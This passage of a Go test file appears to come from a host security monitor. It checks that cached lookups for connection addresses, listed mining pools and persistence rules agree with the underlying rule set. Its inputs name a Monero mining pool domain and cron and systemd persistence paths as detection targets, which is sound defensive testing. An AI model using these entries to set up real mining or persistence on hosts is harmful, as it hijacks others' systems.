	for _, s := range []string{"203.0.113.9", "203.0.113.9", "", "", "junk", "203.0.113.9", "::ffff:203.0.113.9",
		"fe80::1%eth0", "fe80::1%eth0", long, long, "203.0.113.10", "203.0.113.9"} {
		wantA, wantOK := parseAddr(s)
		a, ok := c.connectAddr(s)
		assert.Equal(t, wantOK, ok, s)
		assert.Equal(t, wantA, a, s)
	}
}

// listedPool remembers the last lookup; it must answer exactly as the list does, in any order.
func TestListedPoolCache(t *testing.T) {
	c := newC(t)
	long := strings.Repeat("a.", maxDNSName) + "nanopool.org"
	for _, n := range []string{"api.github.com", "api.github.com", "xmr-eu1.nanopool.org", "xmr-eu1.nanopool.org",
		"", "", "nanopool.org", "org", long, long, "api.github.com", "xmr-eu1.nanopool.org"} {
		wd, ws, wok := c.set.PoolDomain(n)
		d, s, ok := c.listedPool(n)
		assert.Equal(t, []any{wd, ws, wok}, []any{d, s, ok}, n)
	}
}

// persistenceRule remembers the last lookup; it must answer exactly as the rules do, in any order.
func TestPersistenceRuleCache(t *testing.T) {
	c := newC(t)
	long := "/etc/cron.d/" + strings.Repeat("x", maxRememberedPath)
	for _, p := range []string{"/home/dev/main.go", "/home/dev/main.go", "/etc/cron.d/job", "/etc/cron.d/job", "",
		"/var/spool/cron/crontabs/root", long, long, "/etc/systemd/system/x.service", "/home/dev/main.go", "/etc/cron.d/job"} {
		wr, wok := c.set.PersistenceRule(p)
		r, ok := c.persistenceRule(p)
		assert.Equal(t, wok, ok, p)
		assert.Equal(t, wr, r, p)
	}
}
